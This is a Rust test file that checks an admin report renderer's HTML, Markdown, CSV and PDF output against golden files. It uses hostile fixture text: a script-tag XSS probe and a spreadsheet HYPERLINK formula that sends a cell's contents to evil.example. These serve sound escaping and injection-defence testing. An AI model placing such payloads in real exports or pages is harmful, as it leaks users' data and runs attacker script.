//! The report renderers against golden files: a fixed weekly report with every
//! kind of section, a fixed clock and hostile text, in Korean and English.
//! `BLESS=1 cargo test -p server-core --test report_render` rewrites the files
//! in `tests/golden/reports/`; review their diff like code.

use std::path::PathBuf;

use chrono::{DateTime, Duration, NaiveDate, TimeZone, Utc};
use server_core::model::range::{day_start, Bucket, Preset, ResolvedRange, Zone};
use server_core::model::{
    ActivityHeatmap, ActivitySeries, CountryStat, GrowthPoint, ProblemMatrix, TypeSeries, UserGrowth, UsersByType,
};
use server_core::reports::data::{Anomaly, ChartData, Figure, ProblemLine, ReportData, SectionData};
use server_core::reports::render::{filename, render};

/// Text that would run as script, formula or markup if a format forgot to escape it.
const SCRIPT: &str = "<script>alert('x')</script>";
const FORMULA: &str = "=HYPERLINK(\"evil.example/?leak=\"&A1,\"click\")";
const PIPES: &str = "| pipes | and *stars* [link](x) `code`";

/// A week in KST: Monday 2026-11-23 to Sunday 2026-11-29.
fn week(first: NaiveDate) -> ResolvedRange {
    let last = first + Duration::days(6);
    ResolvedRange {
        preset: Preset::Custom,
        zone: Zone::Kst,
        first_day: first,
        last_day: last,
        start: day_start(first, Zone::Kst),
        end: day_start(last + Duration::days(1), Zone::Kst),
        bucket: Bucket::Day,
    }
}

fn day(d: u32) -> NaiveDate {
    NaiveDate::from_ymd_opt(2026, 11, d).unwrap()
}

fn country(code: &str, name: &str, name_ko: &str, users: i64, today_active: i64) -> CountryStat {
    CountryStat {
        country: code.into(),
        name: name.into(),
        name_ko: name_ko.into(),
        users,
        today_active,
        lat: None,
        lng: None,
    }
}

fn problem(id: i64, title: &str, subject: &str, difficulty: Option<&str>, solves: i64, attempts: i64) -> ProblemLine {
    let tries = solves + attempts;
    ProblemLine {
        id,
        title: title.into(),
        subject: Some(subject.into()),
        difficulty: difficulty.map(Into::into),
        solves,
        attempts,
        solve_rate: (tries > 0).then(|| solves as f64 / tries as f64),
    }
}

fn matrix() -> ProblemMatrix {
    ProblemMatrix {
        subjects: vec!["math".into(), "science".into(), PIPES.into()],
        difficulties: vec!["easy".into(), "medium".into(), "hard".into(), "(none)".into()],
        counts: vec![vec![12, 8, 5, 0], vec![6, 9, 3, 1], vec![1, 0, 0, 0]],
        total: 45,
    }
}

/// The weekly report, every section kind once (and a custom heading that is hostile).
fn weekly(korean: bool) -> ReportData {
    let range = week(day(23));
    let previous = week(day(16));
    let days: Vec<NaiveDate> = (0..7).map(|i| day(23) + Duration::days(i)).collect();
    let new_users = [14, 9, 21, 0, 17, 30, 11];
    let mut total = 1_180;
    let points = days
        .iter()
        .zip(new_users)
        .map(|(d, n)| {
            total += n;
            GrowthPoint { date: *d, start: day_start(*d, Zone::Kst), new_users: n, total_users: total }
        })
        .collect();
    let buckets: Vec<DateTime<Utc>> = days.iter().map(|d| day_start(*d, Zone::Kst)).collect();
    let series = |t: &str, counts: [i64; 7]| TypeSeries {
        activity_type: t.into(),
        counts: counts.to_vec(),
        total: counts.iter().sum(),
    };
    let activity = ActivitySeries {
        range,
        buckets,
        series: vec![
            series("problem_view", [120, 98, 143, 110, 87, 60, 71]),
            series("problem_solve", [40, 35, 52, 41, 30, 18, 25]),
            series("login", [33, 30, 36, 31, 29, 20, 22]),
            series(SCRIPT, [0, 1, 0, 0, 2, 0, 0]),
        ],
    };
    // A day-and-night rhythm, busier on weekdays.
    let counts: Vec<Vec<i64>> = (0..7)
        .map(|d| {
            (0..24).map(|h| if (9..23).contains(&h) { 10 + h + if d < 5 { 6 } else { 0 } } else { h % 4 }).collect()
        })
        .collect();
    let max = counts.iter().flatten().copied().max().unwrap_or(0);
    let figure = |key, value, previous| Figure { key, value, previous };
    let sections = vec![
        SectionData::StatSummary {
            title: None,
            figures: vec![
                figure("new_users", 102, 80),
                figure("active_users", 431, 455),
                figure("activities", 1_423, 1_423),
                figure("new_problems", 4, 0),
                figure("total_users", 1_282, 1_180),
            ],
        },
        SectionData::Chart { title: None, chart: ChartData::UserGrowth(UserGrowth { days: 7, range, points }) },
        SectionData::Chart {
            title: None,
            chart: ChartData::UsersByType(UsersByType { free: 1_001, paid: 214, premium: 67 }),
        },
        SectionData::Chart { title: Some(SCRIPT.into()), chart: ChartData::Activity(activity) },
        SectionData::Chart { title: None, chart: ChartData::Heatmap(ActivityHeatmap { range, counts, max }) },
        SectionData::Chart { title: None, chart: ChartData::Problems(matrix()) },
        SectionData::TopCountries {
            title: None,
            rows: vec![
                country("KR", "South Korea", "대한민국", 912, 120),
                country("US", "United States", "미국", 201, 18),
                country("JP", "Japan", "일본", 95, 7),
            ],
        },
        SectionData::ProblemBank {
            title: None,
            active: 41,
            total: 45,
            matrix: matrix(),
            top_solved: vec![
                problem(7, "이차방정식의 근", "math", Some("easy"), 320, 41),
                problem(12, FORMULA, "science", Some("medium"), 210, 95),
            ],
            lowest_rate: vec![problem(31, PIPES, "math", None, 3, 57)],
        },
        SectionData::Comparison {
            title: Some(FORMULA.into()),
            figures: vec![figure("new_users", 102, 80), figure("activities", 1_423, 1_500)],
        },
        SectionData::Anomalies {
            title: None,
            lookback_days: 28,
            min_z: 3.0,
            items: vec![
                Anomaly { day: day(28), metric: "new_users", activity_type: None, value: 30, mean: 12.4, z: 4.21 },
                Anomaly {
                    day: day(25),
                    metric: "activities",
                    activity_type: Some("problem_solve".into()),
                    value: 52,
                    mean: 31.0,
                    z: 3.05,
                },
            ],
        },
        SectionData::Anomalies { title: Some("Quiet".into()), lookback_days: 28, min_z: 3.0, items: vec![] },
        SectionData::Text {
            title: None,
            body: format!(
                "Sign-ups peaked on Saturday after the campaign.\n{SCRIPT}\n\n- {PIPES}\n- {FORMULA}\n- 다음 주: 서버 점검"
            ),
        },
    ];
    ReportData {
        title: if korean { format!("주간 운영 보고서 {SCRIPT}") } else { format!("Weekly operations {SCRIPT}") },
        korean,
        range,
        previous,
        generated_at: Utc.with_ymd_and_hms(2026, 11, 30, 0, 0, 0).unwrap(),
        sections,
    }
}

fn golden_dir() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/golden/reports")
}

/// Compares `body` with the golden file `name`, or rewrites it under `BLESS=1`.
fn golden(name: &str, body: &[u8]) {
    let path = golden_dir().join(name);
    if std::env::var_os("BLESS").is_some_and(|v| v == "1") {
        std::fs::create_dir_all(golden_dir()).unwrap();
        std::fs::write(&path, body).unwrap();
        return;
    }
    let expected = std::fs::read(&path).unwrap_or_else(|e| panic!("{}: {e} (run with BLESS=1)", path.display()));
    if expected != body {
        let (expected, actual) = (String::from_utf8_lossy(&expected), String::from_utf8_lossy(body));
        let line = expected.lines().zip(actual.lines()).position(|(a, b)| a != b).unwrap_or(0);
        panic!(
            "{name} differs from the golden file at line {}:\n  golden: {:?}\n  actual: {:?}\n(BLESS=1 rewrites it)",
            line + 1,
            expected.lines().nth(line).unwrap_or_default(),
            actual.lines().nth(line).unwrap_or_default(),
        );
    }
}

fn rendered(korean: bool, format: &str) -> String {
    let out = render(&weekly(korean), format).unwrap();
    String::from_utf8(out.body).unwrap()
}

#[test]
fn every_format_matches_its_golden_file() {
    for (korean, lang) in [(true, "ko"), (false, "en")] {
        let data = weekly(korean);
        for (format, ext) in [("html", "html"), ("markdown", "md"), ("csv", "csv")] {
            let out = render(&data, format).unwrap();
            assert_eq!((out.format, out.extension), (format, ext));
            golden(&format!("weekly-{lang}.{ext}"), &out.body);
        }
    }
}

#[test]
fn rendering_is_deterministic() {
    for format in ["html", "markdown", "csv"] {
        assert_eq!(render(&weekly(true), format).unwrap(), render(&weekly(true), format).unwrap());
    }
}

#[test]
fn html_is_self_contained_and_mail_safe() {
    for korean in [true, false] {
        let html = rendered(korean, "html");
        let lower = html.to_ascii_lowercase();
        assert!(!lower.contains("<script"), "a script tag got through");
        assert!(!lower.contains("http://") && !lower.contains("https://"), "an external URL got through");
        assert!(!lower.contains("<style"), "a style sheet (mail clients drop them)");
        assert!(!lower.contains(" src=") && !lower.contains(" href=") && !lower.contains("url("), "a resource");
        assert!(!lower.contains(" onclick=") && !lower.contains("javascript:"));
        assert_eq!(lower.matches("<svg").count(), 5, "the five charts, inline");
        assert_eq!(lower.matches("<svg").count(), lower.matches("</svg>").count(), "every <svg> is closed");
        assert!(html.starts_with("<!DOCTYPE html>"));
        assert!(html.contains(if korean { "<html lang=\"ko\">" } else { "<html lang=\"en\">" }));
        assert!(html.contains("<meta charset=\"utf-8\">"));
        assert!(html.contains("2026-11-23 – 2026-11-29 (KST)"));
        assert!(html.contains("2026-11-30 09:00 KST"), "generated-at in the report's zone");
        assert!(html.contains("&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;"));
        assert!(html.contains("=HYPERLINK(&quot;evil.example/?leak=&quot;&amp;A1,&quot;click&quot;)"));
        assert!(html.contains("| pipes | and *stars* [link](x) `code`"), "Markdown characters are plain text in HTML");
        // Headline changes in colour, as text arrows.
        assert!(html.contains("▲ 27.5 %") && html.contains("▼ 5.3 %"));
        assert!(html.contains("color:#1f7a5a") && html.contains("color:#b42318"));
        // Each element that shows text carries its own style.
        for tag in ["<h1", "<h2", "<p ", "<td", "<th"] {
            for (i, _) in html.match_indices(tag) {
                let open = &html[i..html[i..].find('>').map_or(html.len(), |e| i + e)];
                assert!(open.contains("style=\""), "{tag} without inline style: {open}");
            }
        }
    }
}

#[test]
fn html_charts_carry_korean_text_and_a_data_table() {
    let html = rendered(true, "html");
    assert!(
        html.contains("font-family=\"Pretendard, &#39;Apple SD Gothic Neo&#39;, &#39;Malgun Gothic&#39;, sans-serif\"")
    );
    assert!(html.contains(">\n누적 사용자\n</text>"), "the legend's Korean text is in the SVG as UTF-8");
    assert!(html.contains(">\n프리미엄\n</text>") && html.contains(">\n월\n</text>"));
    // The figures survive without the SVG: the growth table lists every day.
    for day in 23..=29 {
        assert!(html.contains(&format!(">2026-11-{day}</td>")));
    }
}

#[test]
fn markdown_escapes_markup_and_folds_long_series() {
    for korean in [true, false] {
        let md = rendered(korean, "markdown");
        let bare = md.match_indices(['<', '>']).filter(|(i, _)| !md[..*i].ends_with('\\')).count();
        assert_eq!(bare, 0, "raw HTML got through");
        assert!(md.contains(r"\<script\>alert('x')\</script\>"));
        assert!(md.contains(r"\| pipes \| and \*stars\* \[link\](x) \`code\`"));
        assert!(md.contains("| 2026-11-23 | 14 | 1,194 |"), "a chart becomes its table");
        assert!(md.contains("|---|---:|---:|"));
        // Every table row has as many cells as its header.
        for block in md.split("\n\n").filter(|b| b.starts_with("| ")) {
            let widths: Vec<usize> = block.lines().map(|l| l.replace(r"\|", "").matches('|').count()).collect();
            assert!(widths.iter().all(|w| *w == widths[0]), "ragged table:\n{block}");
        }
    }
    // 40 days fold into ISO weeks.
    let mut data = weekly(false);
    let first = day(1);
    let range = ResolvedRange { last_day: first + Duration::days(39), ..week(first) };
    let points = (0..40)
        .map(|i| {
            let d = first + Duration::days(i);
            GrowthPoint { date: d, start: day_start(d, Zone::Kst), new_users: 1, total_users: 100 + i }
        })
        .collect();
    data.sections =
        vec![SectionData::Chart { title: None, chart: ChartData::UserGrowth(UserGrowth { days: 40, range, points }) }];
    let md = String::from_utf8(render(&data, "markdown").unwrap().body).unwrap();
    assert!(md.contains("| Week | New users | Total users |"), "{md}");
    assert!(md.contains("| 2026-11-01 | 1 | 100 |"), "a Sunday alone ends its ISO week:\n{md}");
    assert!(md.contains("| 2026-11-02 – 11-08 | 7 | 107 |"), "{md}");
    assert_eq!(md.lines().filter(|l| l.starts_with("| 2026-")).count(), 7);
}

#[test]
fn csv_has_a_bom_and_defused_cells() {
    for korean in [true, false] {
        let csv = render(&weekly(korean), "csv").unwrap();
        assert!(csv.body.starts_with(b"\xEF\xBB\xBFsection,metric,dimension,bucket,value,previous,change_pct\r\n"));
        let text = String::from_utf8(csv.body[3..].to_vec()).unwrap();
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        assert!(rows.iter().all(|r| r.len() == 7));
        assert!(rows.iter().all(|r| !r.iter().any(|c| c.starts_with(['=', '+', '@']))), "a live formula");
        assert!(rows.iter().any(|r| r[2] == format!("'{FORMULA}")), "the formula title is defused");
        assert!(rows.iter().any(|r| &r[0] == "stat_summary" && &r[1] == "new_users" && &r[6] == "27.5"));
        assert!(rows.iter().any(|r| &r[1] == "active_users" && &r[6] == "-5.3"), "numbers stay numbers");
        assert!(rows.iter().all(|r| r.iter().skip(4).all(|n| n.is_empty() || n.parse::<f64>().is_ok())));
        assert!(!text.contains("Sign-ups peaked"), "free text is left out");
        assert_eq!(rows.iter().filter(|r| &r[0] == "heatmap").count(), 168);
    }
}

#[test]
fn empty_and_hourly_data_render_without_panicking() {
    let mut data = weekly(false);
    let range = ResolvedRange { preset: Preset::Today, last_day: day(23), bucket: Bucket::Hour, ..week(day(23)) };
    let hours: Vec<DateTime<Utc>> = (0..24).map(|h| range.start + Duration::hours(h)).collect();
    let points = hours
        .iter()
        .enumerate()
        .map(|(h, start)| GrowthPoint { date: day(23), start: *start, new_users: h as i64 % 3, total_users: 50 })
        .collect();
    data.range = range;
    let empty_matrix = ProblemMatrix { subjects: vec![], difficulties: vec![], counts: vec![], total: 0 };
    data.sections = vec![
        SectionData::StatSummary { title: None, figures: vec![] },
        SectionData::Chart { title: None, chart: ChartData::UserGrowth(UserGrowth { days: 1, range, points }) },
        SectionData::Chart { title: None, chart: ChartData::UserGrowth(UserGrowth { days: 1, range, points: vec![] }) },
        SectionData::Chart { title: None, chart: ChartData::UsersByType(UsersByType::default()) },
        SectionData::Chart {
            title: None,
            chart: ChartData::Activity(ActivitySeries { range, buckets: hours, series: vec![] }),
        },
        SectionData::Chart {
            title: None,
            chart: ChartData::Heatmap(ActivityHeatmap { range, counts: vec![], max: 0 }),
        },
        SectionData::Chart { title: None, chart: ChartData::Problems(empty_matrix.clone()) },
        SectionData::TopCountries { title: None, rows: vec![] },
        SectionData::ProblemBank {
            title: None,
            active: 0,
            total: 0,
            matrix: empty_matrix,
            top_solved: vec![],
            lowest_rate: vec![],
        },
        SectionData::Text { title: None, body: String::new() },
    ];
    let html = String::from_utf8(render(&data, "html").unwrap().body).unwrap();
    assert_eq!(html.matches("<svg").count(), 6);
    assert_eq!(html.matches("</svg>").count(), 6);
    assert!(html.contains("<td style=\"padding:3px 6px;border-bottom:1px solid #eef1f4\">09:00</td>"), "hours");
    let md = String::from_utf8(render(&data, "markdown").unwrap().body).unwrap();
    assert!(md.contains("Period: 2026-11-23 (KST)"), "{md}");
    assert!(md.contains("| 23:00 | 2 | 50 |") && md.contains("No data."), "{md}");
    assert!(render(&data, "csv").unwrap().body.len() > 3);
    assert!(render(&data, "pdf").unwrap().body.starts_with(b"%PDF-"), "empty sections lay out too");
}

#[test]
fn unknown_formats_are_refused_and_file_names_are_ascii() {
    let data = weekly(true);
    assert!(render(&data, "docx").unwrap_err().contains("'docx' is not a format"));
    assert_eq!(filename(&data, "html"), "script-alert-x-script-2026-11-23_2026-11-29.html");
    let mut data = weekly(false);
    assert_eq!(filename(&data, "md"), "weekly-operations-script-alert-x-script-2026-11-23_2026-11-29.md");
    data.title = "주간 보고서".into();
    assert_eq!(filename(&data, "csv"), "report-2026-11-23_2026-11-29.csv");
}

/// The text `pdftotext` (Debian's poppler-utils) reads out of `pdf`, or None
/// where it is not installed (a failure under `CI=true`, which installs it).
fn pdf_text(pdf: &[u8]) -> Option<String> {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("report.pdf");
    std::fs::write(&path, pdf).unwrap();
    match std::process::Command::new("pdftotext").arg("-enc").arg("UTF-8").arg(&path).arg("-").output() {
        Ok(out) => {
            assert!(out.status.success(), "pdftotext: {}", String::from_utf8_lossy(&out.stderr));
            Some(String::from_utf8(out.stdout).unwrap())
        }
        Err(err) if std::env::var("CI").is_ok_and(|v| v == "true") => panic!("CI=true but pdftotext cannot run: {err}"),
        Err(err) => {
            eprintln!("skipping the PDF text checks: pdftotext cannot run ({err}); apt-get install poppler-utils");
            None
        }
    }
}

#[test]
fn pdf_is_deterministic_small_and_carries_its_subset_font() {
    let data = weekly(true);
    let first = render(&data, "pdf").unwrap();
    assert_eq!((first.format, first.extension, first.content_type), ("pdf", "pdf", "application/pdf"));
    assert!(first.body.starts_with(b"%PDF-"), "a PDF file");
    assert_eq!(first.body, render(&data, "pdf").unwrap().body, "the same data gives the same bytes");
    // Both weights subset (a tag like `ABCDEF+`), not the 1.5 MB files whole.
    let text = String::from_utf8_lossy(&first.body);
    assert!(text.contains("+Pretendard-Regular") && text.contains("+Pretendard-Bold"), "fonts named and subset");
    assert!(first.body.len() < 300 * 1024, "{} bytes", first.body.len());
    assert_eq!(filename(&data, first.extension), "script-alert-x-script-2026-11-23_2026-11-29.pdf");
}

#[test]
fn pdf_text_reads_back_in_korean_with_hostile_text_shown_as_it_is() {
    let Some(ko) = pdf_text(&render(&weekly(true), "pdf").unwrap().body) else { return };
    for needle in ["주요 지표 요약", "기간: 2026-11-23 – 2026-11-29 (KST)", "다음 주: 서버 점검", "이전 기간"]
    {
        assert!(ko.contains(needle), "{needle:?} missing from:\n{ko}");
    }
    // Markup characters are text, not Typst or PDF syntax.
    for needle in ["<script>alert('x')</script>", "*stars*", "=HYPERLINK("] {
        assert!(ko.contains(needle), "{needle:?} missing from:\n{ko}");
    }
    let Some(en) = pdf_text(&render(&weekly(false), "pdf").unwrap().body) else { return };
    assert!(en.contains("Key figures") && en.contains("An automatic report from DreamSeed Admin."), "{en}");
    assert!(en.contains("1 / "), "page numbers: {en}");
}
